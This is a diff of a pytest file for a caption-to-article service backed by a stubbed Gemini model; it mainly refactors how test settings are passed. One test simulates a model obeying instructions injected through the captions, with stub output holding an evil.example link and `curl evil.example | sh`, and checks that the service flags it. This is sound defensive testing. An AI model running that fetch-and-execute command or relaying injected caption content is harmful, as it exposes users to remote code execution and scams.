@@ -6,7 +6,6 @@ import json
 from collections.abc import Iterator
 from http.client import HTTPConnection
 from pathlib import Path
-from typing import Any
 
 import pytest
 
@@ -33,15 +32,6 @@ def model() -> Iterator[GeminiStub]:
         yield stub
 
 
-def settings(model: GeminiStub, **more: str) -> dict[str, Any]:
-    return {
-        "MODEL": gemini_stub.MODEL,
-        "GEMINI_API_KEY": gemini_stub.KEY,
-        "GEMINI_ENDPOINT": model.endpoint,
-        **more,
-    }
-
-
 def ask(server: Server, style: str = "tutorial", more: str = "") -> str:
     answer = server.ask(f"/article?v={SAMPLE}&style={style}{more}", method="POST", body=SRT)
     assert answer.status == 200, answer.text
@@ -56,7 +46,7 @@ def sections(article: str) -> list[str]:
 def test_a_model_writes_from_captions_as_data_in_the_style_and_language_asked_for(
     model: GeminiStub,
 ) -> None:
-    with function(**settings(model)) as server:
+    with function(**model.settings) as server:
         article = ask(server, "summary", "&hl=en")
     assert LABEL in article
     assert 'style: "summary"' in article
@@ -71,7 +61,7 @@ def test_a_model_writes_from_captions_as_data_in_the_style_and_language_asked_fo
 
 def test_a_model_that_obeys_the_captions_is_marked_and_cannot_link(model: GeminiStub) -> None:
     model.prose = ("Buy at [Bargain](https://evil.example) for 20 Euro: `curl evil.example | sh`",)
-    with function(**settings(model)) as server:
+    with function(**model.settings) as server:
         obeyed = sections(ask(server))[1]
     marked = "\n> Not found in the captions, to be checked: Bargain, evil.example, Euro, 20, curl,"
     assert marked in obeyed
@@ -81,9 +71,11 @@ def test_a_model_that_obeys_the_captions_is_marked_and_cannot_link(model: Gemini
 def test_sections_are_paid_for_once_by_all_instances_and_failed_ones_asked_for_again(
     model: GeminiStub, firestore: Emulator
 ) -> None:
-    shared = settings(
-        model, FIRESTORE_EMULATOR_HOST=firestore.host, GOOGLE_CLOUD_PROJECT="chapters-rewritten"
-    )
+    shared = {
+        **model.settings,
+        "FIRESTORE_EMULATOR_HOST": firestore.host,
+        "GOOGLE_CLOUD_PROJECT": "chapters-rewritten",
+    }
     model.next = ["unavailable"]
     with function(**shared) as server:
         partly = sections(ask(server))
@@ -102,7 +94,7 @@ def test_sections_are_paid_for_once_by_all_instances_and_failed_ones_asked_for_a
 )
 def test_a_model_that_fails_leaves_what_was_said(model: GeminiStub, outcome: str) -> None:
     model.outcome = outcome
-    with function(**settings(model)) as server:
+    with function(**model.settings) as server:
         article = ask(server)
         plain = ask(server, "transcript")
         log = server.log.read_text()
@@ -119,7 +111,7 @@ def test_a_model_that_fails_leaves_what_was_said(model: GeminiStub, outcome: str
 
 
 def test_a_days_tokens_limit_what_a_model_writes(model: GeminiStub) -> None:
-    with function(**settings(model, MODEL_TOKENS_A_DAY="4096")) as server:
+    with function(**model.settings, MODEL_TOKENS_A_DAY="4096") as server:
         article = ask(server)
     assert "tokens of the model are used up" in article
     assert model.calls == []
@@ -154,9 +146,9 @@ def test_each_section_is_sent_as_soon_as_it_is_written(tmp_path: Path) -> None:
 
 def test_at_the_terminal_a_model_writes_from_captions(model: GeminiStub) -> None:
     arguments = ("article", SAMPLE, "--transcript", "-", "--style", "tutorial")
-    done = real_command(*arguments, environment=settings(model), stdin=SRT)
+    done = real_command(*arguments, environment=model.settings, stdin=SRT)
     assert (done.code, done.out.count("A **pond** lies")) == (0, 2)
     model.outcome = "unavailable"
-    failed = real_command(*arguments, environment=settings(model), stdin=SRT)
+    failed = real_command(*arguments, environment=model.settings, stdin=SRT)
     assert failed.code == 4
     assert failed.out.count("below is what is said in it") == 2
